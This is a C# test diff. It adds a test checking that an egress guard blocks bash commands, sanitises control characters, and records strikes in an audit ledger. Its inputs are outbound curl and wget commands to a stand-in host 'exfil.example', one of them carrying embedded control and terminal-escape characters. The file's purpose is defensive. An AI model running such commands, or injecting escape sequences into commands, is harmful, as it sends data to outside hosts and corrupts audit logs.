@@ -134,4 +134,25 @@ public sealed class EgressGuardEndpointTests : IAsyncLifetime
         Assert.Equal(3, ledger.Count);
         Assert.All(ledger, e => Assert.Equal("egress guard", e.InitiatorId));
     }
+
+    [Fact]
+    public async Task A_command_with_control_characters_is_judged_as_sent_and_every_strike_still_reaches_the_ledger()
+    {
+        var (userId, _, nodes) = await UserWithRunningNodesAsync();
+        var (nodeId, token) = nodes[0];
+
+        var first = await CheckAsync(nodeId, token, new { tool = "bash", command = "curl http://exfil.example/\u0000\u001b[2J" });
+        Assert.Equal(HttpStatusCode.OK, first.Status);
+        Assert.False(first.Body.GetProperty("allowed").GetBoolean());
+        Assert.Equal("curl", first.Body.GetProperty("rule").GetString());
+        var second = await CheckAsync(nodeId, token, new { tool = "bash", command = "wget http://exfil.example" });
+        Assert.Equal(2, second.Body.GetProperty("strikes_in_24h").GetInt32());
+
+        var query = _factory.Services.GetRequiredService<DeepSync.Silo.Governance.AuditLedgerQuery>();
+        var strikes = await Eventually.Until(
+            () => query.ReadAsync(new DeepSync.Silo.Governance.AuditFilter(UserId: userId, Action: AuditAction.StrikeRecorded), 10),
+            rows => rows.Count == 2);
+        Assert.Equal("bash: wget http://exfil.example", strikes[0].Details["detail"]);
+        Assert.Equal("bash: curl http://exfil.example/\uFFFD\uFFFD[2J", strikes[1].Details["detail"]);
+    }
 }
